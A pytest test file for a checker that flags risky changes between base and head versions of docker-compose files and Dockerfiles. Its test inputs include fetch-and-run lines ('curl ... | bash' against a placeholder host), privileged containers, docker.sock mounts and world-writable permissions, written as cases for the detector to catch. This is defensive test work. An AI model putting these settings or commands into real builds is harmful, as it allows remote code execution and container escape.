"""Compose files and Dockerfiles of base and head: harmful changes are found, look-alikes stay silent."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.check.interface import CheckSkipped
from tests.packs.small_context import load_check, pack_of, run_pack

load_check(pack_of("containers"))
from harness_packs.containers import compose, images, services  # noqa: E402

from harness.check.documents import UnreadableError, read_yaml  # noqa: E402

FILE = """services:
  web:
    image: shop/web:1.4
    user: "1000"
    ports: ["8080:8080"]
    volumes:
      - ./src:/app
      - uploads:/app/uploads
      - cache:/app/.cache
  db:
    image: postgres:16.4
    volumes:
      - data:/var/lib/postgresql/data
      - ./init.sql:/docker-entrypoint-initdb.d/init.sql
volumes:
  data:
  uploads:
  cache:
"""
DATA = "      - data:/var/lib/postgresql/data\n"
IMAGE = "    image: postgres:16.4\n"
WEB = "    image: shop/web:1.4\n"
LOST = [("data-not-kept", "high")]
ACCESS = [("host-access", "high")]


def found(folder, base, head, path="docker-compose.yml"):
    outcome = run_pack("containers", folder, {path: base} if base else {}, {path: head})
    return [(one.rule.removeprefix("containers-"), one.severity) for one in outcome.findings]


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (DATA, "", LOST),
        (DATA, DATA.replace("data:/", "fresh:/"), LOST),
        (DATA, "      - /var/lib/postgresql/data\n", LOST),
        (DATA, "      - type: tmpfs\n        target: /var/lib/postgresql/data\n", LOST),
        (DATA, "      - data:/var/lib/postgres\n", LOST),
        (DATA, "      - data:/var/lib/postgresql\n", LOST),
        (DATA, "      - type: volume\n        source: data\n        target: /var/lib/postgresql/data/\n", []),
        ("volumes:\n  data:\n", "volumes:\n  data:\n    name: shop_data\n", LOST),
        ("      - ./init.sql:/docker-entrypoint-initdb.d/init.sql\n", "", []),
        ("      - uploads:/app/uploads\n", "", [("data-not-kept", "medium")]),
        ("      - cache:/app/.cache\n", "", []),
        ("      - ./src:/app\n", "", []),
        (IMAGE, "    image: postgres:17.2\n", [("store-version", "medium")]),
        (IMAGE, "    image: postgres:16.6\n", []),
        (IMAGE, "    image: mysql:8.4\n", []),
    ],
)
def test_data_that_is_no_longer_kept(tmp_path, old, new, expected):
    assert old in FILE
    assert found(tmp_path, FILE, FILE.replace(old, new, 1)) == expected


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (WEB, WEB + "    privileged: true\n", ACCESS),
        (WEB, WEB + "    pid: host\n", ACCESS),
        (WEB, WEB + "    network_mode: host\n", [("host-access", "medium")]),
        (WEB, WEB + "    cap_add: [SYS_ADMIN]\n", ACCESS),
        (WEB, WEB + "    cap_add: [CHOWN]\n", []),
        (WEB, WEB + "    security_opt: ['seccomp:unconfined']\n", [("host-access", "medium")]),
        ("      - ./src:/app\n", "      - ./src:/app\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n", ACCESS),
        ("      - ./src:/app\n", "      - ./src:/app\n      - /etc/localtime:/etc/localtime:ro\n", []),
        ("      - ./src:/app\n", "      - ./src:/app\n      - /:/host:ro\n", [("host-access", "medium")]),
        ('    user: "1000"\n', "", [("host-access", "medium")]),
        ('    user: "1000"\n', "    user: app\n", []),
        (IMAGE, IMAGE + '    ports: ["5432:5432"]\n', [("exposed", "medium")]),
        (IMAGE, IMAGE + '    ports: ["127.0.0.1:5432:5432"]\n', []),
        (IMAGE, IMAGE + '    ports: ["5432"]\n', []),
        (IMAGE, IMAGE + "    environment: [POSTGRES_HOST_AUTH_METHOD=trust]\n", [("exposed", "medium")]),
        (IMAGE, IMAGE + "    environment: {POSTGRES_HOST_AUTH_METHOD: scram-sha-256}\n", []),
        ('["8080:8080"]', '["80:8080"]', []),
    ],
)  # fmt: skip
def test_what_a_service_may_newly_do(tmp_path, old, new, expected):
    assert old in FILE
    assert found(tmp_path, FILE, FILE.replace(old, new, 1)) == expected


def test_ports_on_a_machine_of_ones_own_are_no_doors(tmp_path):
    head = FILE.replace(IMAGE, IMAGE + '    ports: ["5432:5432"]\n')
    assert found(tmp_path, FILE, head, "compose.override.yml") == []


def test_what_base_allowed_already_is_nothing_new(tmp_path):
    base = FILE.replace(WEB, WEB + "    privileged: true\n")
    assert found(tmp_path, base, base.replace("web:1.4", "web:1.5")) == []


def test_of_a_new_file_only_its_rights_are_told(tmp_path):
    head = FILE.replace(WEB, WEB + "    privileged: true\n").replace(
        IMAGE, IMAGE + "    ports: ['5432:5432']\n"
    )
    assert found(tmp_path, None, head) == ACCESS


IMAGE_FILE = """FROM python:3.11-slim AS build
RUN pip install --no-cache-dir build==1.2.2
FROM build AS tested
FROM python:3.11-slim
RUN useradd app \\
    # a comment
    && mkdir /app
USER app
CMD ["python", "-m", "app"]
"""


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("USER app\n", "", [("root", "medium")]),
        ("USER app\n", "USER app\nUSER root\n", [("root", "medium")]),
        ("USER app\n", "USER 1000:1000\n", []),
        ("USER app\n", "USER app\nHEALTHCHECK CMD true\n", []),
        ("FROM python:3.11-slim\n", "FROM python:latest\n", [("image-moves", "medium")]),
        ("FROM python:3.11-slim\n", "FROM python\n", [("image-moves", "medium")]),
        ("FROM python:3.11-slim\n", "FROM python:3.12-slim\n", []),
        ("FROM python:3.11-slim\n", "ARG BASE=python:3.12\nFROM ${BASE}\n", []),
        ("USER app\n", "RUN curl -s https://x.example/i | bash\nUSER app\n", [("runs-fetched-code", "medium")]),
        ("USER app\n", "ADD https://x.example/i.tgz /opt\nUSER app\n", [("runs-fetched-code", "medium")]),
        ("USER app\n", "RUN curl -fsSLo /t https://x.example/t && sha256sum -c t.sum\nUSER app\n", []),
        ("USER app\n", "RUN curl -kfsS https://x.example/t -o t\nUSER app\n", [("unchecked-transfer", "medium")]),
        ("USER app\n", "RUN chmod -R 777 /app\nUSER app\n", [("world-writable", "low")]),
        ("USER app\n", "RUN chmod +x /app/run\nUSER app\n", []),
        ("USER app\n", "RUN <<E\ncurl -s https://x.example/i | sh\nE\nUSER app\n", [("runs-fetched-code", "medium")]),
    ],
)  # fmt: skip
def test_what_an_image_newly_is(tmp_path, old, new, expected):
    assert old in IMAGE_FILE
    assert found(tmp_path, IMAGE_FILE, IMAGE_FILE.replace(old, new, 1), "Dockerfile") == expected


def test_the_user_of_a_stage_is_that_of_the_stage_below_it(tmp_path):
    base = "FROM alpine:3.20 AS a\nUSER app\nFROM a\n"
    assert found(tmp_path, base, base + "RUN true\n", "app.dockerfile") == []


def test_other_files_are_left_alone(tmp_path):
    with pytest.raises(CheckSkipped):
        found(tmp_path, "a: 1\n", "privileged: true\n", "settings.yml")


def test_a_file_that_cannot_be_read_is_said_to_be_unseen(tmp_path):
    outcome = run_pack("containers", tmp_path, {"compose.yml": FILE}, {"compose.yml": "services: [\n"})
    assert [one.what for one in outcome.unverified] == ["compose.yml"]


@given(st.text(alphabet="abFROM USERNADD\n\\<<EOF:@$-/ #{}[]|'\"", max_size=120))
def test_any_text_is_judged_without_an_error(text):
    list(images.hazards_of(text[::-1], text))
    try:
        project = compose.project_of(
            read_yaml(f"services:\n  a:\n    volumes: [{text}]\n    ports: {text}\n")
        )
    except UnreadableError:
        return
    list(services.hazards_of(project, project))
